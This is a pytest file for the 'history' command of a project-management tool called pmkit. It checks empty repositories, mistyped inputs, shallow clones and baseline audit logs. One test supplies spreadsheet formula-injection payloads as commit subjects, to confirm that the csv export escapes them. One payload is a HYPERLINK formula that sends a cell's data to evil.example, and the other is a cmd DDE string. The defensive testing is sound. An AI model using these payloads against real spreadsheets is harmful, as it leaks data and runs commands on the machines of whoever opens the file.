"""`pmkit history` attacked as a new user and an adversary would: an empty repository,
formulas in commit subjects read by a spreadsheet, a mistyped project, a shallow clone."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import jsonschema

from .conftest import MINIMAL, Repo, pmkit

SCHEMA = Path(__file__).resolve().parents[2] / "schemas" / "history.schema.json"


def test_an_empty_repository_has_an_empty_history_not_an_unknown_revision(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "repo")
    shutil.copytree(MINIMAL, repo.root / "program")  # the files are there, nothing committed yet
    table = pmkit(repo.root, "history")
    assert table.returncode == 0, table.stderr
    assert table.stdout == "(no commits)\n"
    assert "unknown revision" not in table.stderr
    document = json.loads(pmkit(repo.root, "history", "--format", "json").stdout)
    assert document["rows"] == []
    baselines = pmkit(repo.root, "history", "--baselines")
    assert baselines.returncode == 0 and baselines.stdout == "(no baseline changes)\n"


def test_the_site_of_an_uncommitted_program_says_there_is_no_commit_yet(tmp_path: Path) -> None:
    from pmkit.app.site.data import load_history

    repo = Repo(tmp_path / "repo")
    shutil.copytree(MINIMAL, repo.root / "program")
    data = load_history(repo.root / "program", use_cache=False)
    assert data.rows == [] and data.reason is not None
    assert "no commit yet" in data.reason and "not in a git repository" not in data.reason


def test_a_subject_a_spreadsheet_would_run_is_written_as_text(repo: Repo) -> None:
    """A commit subject (or author) is anyone's text: in the csv a cell that a spreadsheet
    reads as a formula (=, +, -, @, tab, CR first) is written with a leading apostrophe."""
    subject = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    repo.edit("program/projects/payroll.yaml", "progress: 50", "progress: 55")
    repo.commit(subject, "2026-06-01T12:00:00+00:00")
    repo.edit("program/projects/payroll.yaml", "progress: 55", "progress: 56")
    repo.commit("@SUM(1+1)*cmd|' /C calc'!A0", "2026-06-02T12:00:00+00:00")
    done = pmkit(repo.root, "history", "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["subject"] for r in rows] == ["first", "'" + subject, "'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert not any(r[key].startswith(("=", "+", "-", "@")) for r in rows for key in ("subject", "author", "note"))
    # numbers stay numbers (a negative funding gap is not text)
    assert rows[1]["funding_gap"] == "-10000.00"
    # json keeps the subject as it is
    document = json.loads(pmkit(repo.root, "history", "--format", "json").stdout)
    assert document["rows"][1]["subject"] == subject


def test_a_mistyped_project_is_refused_not_a_table_of_dashes(repo: Repo) -> None:
    repo.edit("program/projects/payroll.yaml", "progress: 50", "progress: 55")
    repo.commit("June", "2026-06-01T12:00:00+00:00")
    done = pmkit(repo.root, "history", "--project", "payrol")
    assert done.returncode == 2, done.stdout
    assert "payrol" in done.stderr and "infra, payroll" in done.stderr
    # a project that exists in some commits only is fine: the others say so in their note
    repo.git("rm", "-q", "program/projects/infra.yaml")
    repo.edit("program/projects/payroll.yaml", "    depends_on: [build, infra/network]\n", "")
    repo.edit("program/staff/bob.yaml", "project: infra", "project: payroll")
    repo.commit("drop infra", "2026-06-02T12:00:00+00:00")
    rows = json.loads(pmkit(repo.root, "history", "--project", "infra", "--format", "json").stdout)["rows"]
    assert [r["progress"] is not None for r in rows[:2]] == [True, True]


def test_a_shallow_clone_says_its_history_is_cut(repo: Repo, tmp_path: Path) -> None:
    repo.edit("program/projects/payroll.yaml", "progress: 50", "progress: 55")
    repo.commit("June", "2026-06-01T12:00:00+00:00")
    clone = tmp_path / "clone"
    repo.git("clone", "-q", "--depth", "1", f"file://{repo.root}", str(clone))
    done = pmkit(clone, "history", "--format", "json")
    assert done.returncode == 0, done.stderr
    assert len(json.loads(done.stdout)["rows"]) == 1
    assert "shallow clone" in done.stderr and "git fetch --unshallow" in done.stderr
    # a full repository says nothing of the kind
    assert "shallow" not in pmkit(repo.root, "history").stderr


def test_commits_before_the_program_folder_existed_count_no_error_and_are_not_drawn(tmp_path: Path) -> None:
    """A repository that began with a README, held the program in plan/ and then renamed it
    program/: the commits without program/ are not programs with 1 error each (the
    History page drew them as errors in its findings chart); they are said to have no folder."""
    from pmkit.app.site.data import load_history

    repo = Repo(tmp_path / "repo")
    repo.write("README.md", "Planning.\n")
    repo.commit("readme", "2026-03-01T12:00:00+00:00")
    shutil.copytree(MINIMAL, repo.root / "plan")
    repo.commit("the program, in plan/", "2026-04-01T12:00:00+00:00")
    repo.git("mv", "plan", "program")
    repo.commit("rename to program/", "2026-05-01T12:00:00+00:00")
    repo.edit("program/projects/payroll.yaml", "progress: 50", "progress: 55")
    repo.commit("June", "2026-06-01T12:00:00+00:00")
    document = json.loads(pmkit(repo.root, "history", "--format", "json").stdout)
    jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text(encoding="utf-8"))).validate(document)
    rows = document["rows"]
    assert [(r["valid"], r["errors"]) for r in rows] == [(False, 0), (False, 0), (True, 0), (True, 0)]
    assert rows[0]["note"] == rows[1]["note"] == "the program folder is not in this commit"
    table = pmkit(repo.root, "history").stdout
    assert "2 commits without the program folder program/" in table
    assert "does not validate" not in table
    data = load_history(repo.root / "program", use_cache=False, by="commit")
    assert [r["subject"] for r in data.points] == ["rename to program/", "June"]
    assert data.invalid == 0 and data.before == 2


def test_a_mistyped_date_is_said_to_be_one_not_an_unknown_revision(repo: Repo) -> None:
    for option, value in (("--since", "2026-13-45"), ("--until", "2026-3-1"), ("--since", "2026-02-30")):
        done = pmkit(repo.root, "history", option, value)
        assert done.returncode == 2, done.stdout
        assert f"{option} {value}: not a date in the form YYYY-MM-DD" in done.stderr, done.stderr
    assert "unknown revision 'nosuch'" in pmkit(repo.root, "history", "--since", "nosuch").stderr


def test_a_baseline_raised_past_the_funding_is_logged_at_its_own_commit_and_author(repo: Repo) -> None:
    """Bob raises payroll labour from 100,000 to 120,000: the total budget, 260,000, now exceeds
    the 250,000 of funding (budget-over-funding, an error), until Cy adds funding. The audit
    trail must name Bob's commit, not Cy's (the first valid one after it)."""
    repo.edit("program/projects/payroll.yaml", "labor: 100000.00", "labor: 120000.00")
    raised = _commit_as(repo, "Bob", "raise payroll labour", "2026-06-01T12:00:00+00:00")
    repo.edit("program/budget/funding.yaml", "amount: 50000.00", "amount: 70000.00")
    _commit_as(repo, "Cy", "more grant", "2026-06-05T12:00:00+00:00")
    rows = json.loads(pmkit(repo.root, "history", "--format", "json").stdout)["rows"]
    assert [(r["valid"], r["errors"]) for r in rows] == [(True, 0), (False, 1), (True, 0)]
    changes = json.loads(pmkit(repo.root, "history", "--baselines", "--format", "json").stdout)["changes"]
    assert [(c["commit"], c["author"], c["project"], c["item"], c["old"], c["new"]) for c in changes] == [
        (raised, "Bob", "payroll", "labor", "100000.00", "120000.00")]


def _commit_as(repo: Repo, author: str, message: str, date: str) -> str:
    import os

    repo.git("add", "-A")
    os.environ["GIT_COMMITTER_DATE"] = os.environ["GIT_AUTHOR_DATE"] = date
    try:
        repo.git("-c", f"user.name={author}", "-c", "user.email=x@example.org", "commit", "-q", "-m", message,
                 f"--author={author} <x@example.org>")
    finally:
        del os.environ["GIT_COMMITTER_DATE"], os.environ["GIT_AUTHOR_DATE"]
    return repo.git("rev-parse", "HEAD").strip()


def test_baseline_changes_since_a_revision_or_date_include_the_first_commit_of_the_range(repo: Repo) -> None:
    """`--baselines --since HEAD~1` asks what HEAD changed: HEAD is compared with its parent,
    not taken as the starting point (which listed nothing)."""
    repo.edit("program/projects/infra.yaml", "labor: 40000.00", "labor: 45000.00")
    raised = repo.commit("infra labour", "2026-06-10T12:00:00+00:00")
    for since in ("HEAD~1", "2026-06-01", "2026-06-10"):
        changes = json.loads(pmkit(repo.root, "history", "--baselines", "--since", since, "--format", "json").stdout)
        assert [(c["commit"], c["item"], c["old"], c["new"]) for c in changes["changes"]] == [
            (raised, "labor", "40000.00", "45000.00")], since
    # the range after the change holds none
    assert json.loads(pmkit(repo.root, "history", "--baselines", "--since", "2026-06-11", "--format",
                            "json").stdout)["changes"] == []


def test_a_commit_whose_file_git_cannot_read_logs_no_false_baseline_removal(repo: Repo) -> None:
    """A blob missing from the object store (a broken or partial clone): the project is not
    loaded at that commit, which must not read as "its baselines were removed" in the log."""
    import os

    repo.edit("program/projects/payroll.yaml", "labor: 100000.00", "labor: 120000.00")
    repo.commit("raise payroll labour", "2026-06-01T12:00:00+00:00")
    repo.edit("program/budget/funding.yaml", "amount: 50000.00", "amount: 70000.00")
    repo.commit("more grant", "2026-06-05T12:00:00+00:00")
    oid = repo.git("rev-parse", "HEAD:program/projects/payroll.yaml").strip()
    content = (repo.root / "program" / "projects" / "payroll.yaml").read_bytes()
    os.remove(repo.root / ".git" / "objects" / oid[:2] / oid[2:])  # loose objects: no pack holds it
    done = pmkit(repo.root, "history", "--baselines", "--format", "json")
    assert done.returncode == 0, done.stderr
    changes = json.loads(done.stdout)["changes"]
    assert not any(c["new"] is None for c in changes), changes
    rows = json.loads(pmkit(repo.root, "history", "--format", "json").stdout)["rows"]
    assert [r["valid"] for r in rows] == [True, False, False]  # the unreadable file is an error, not skipped
    assert rows[2]["note"] == "could not be read: git holds no object for projects/payroll.yaml"
    # the repository repaired (the object written back), the next run reads the commits again:
    # nothing of the broken run was kept as the commits' rows
    import subprocess

    subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo.root, input=content, check=True,
                   capture_output=True)
    rows = json.loads(pmkit(repo.root, "history", "--format", "json").stdout)["rows"]
    assert [r["valid"] for r in rows] == [True, False, True]
    changes = json.loads(pmkit(repo.root, "history", "--baselines", "--format", "json").stdout)["changes"]
    assert [(c["subject"], c["new"]) for c in changes] == [("raise payroll labour", "120000.00")]


def test_the_site_of_a_shallow_clone_says_its_history_is_cut(repo: Repo, tmp_path: Path) -> None:
    from pmkit.app.site.data import load_history

    repo.edit("program/projects/payroll.yaml", "progress: 50", "progress: 55")
    repo.commit("June", "2026-06-01T12:00:00+00:00")
    clone = tmp_path / "clone"
    repo.git("clone", "-q", "--depth", "1", f"file://{repo.root}", str(clone))
    assert load_history(clone / "program", use_cache=False).shallow is True
    assert load_history(repo.root / "program", use_cache=False).shallow is False
    out = tmp_path / "site"
    assert pmkit(clone, "site", "build", "-o", str(out)).returncode == 0
    assert "shallow clone" in (out / "history.html").read_text(encoding="utf-8")
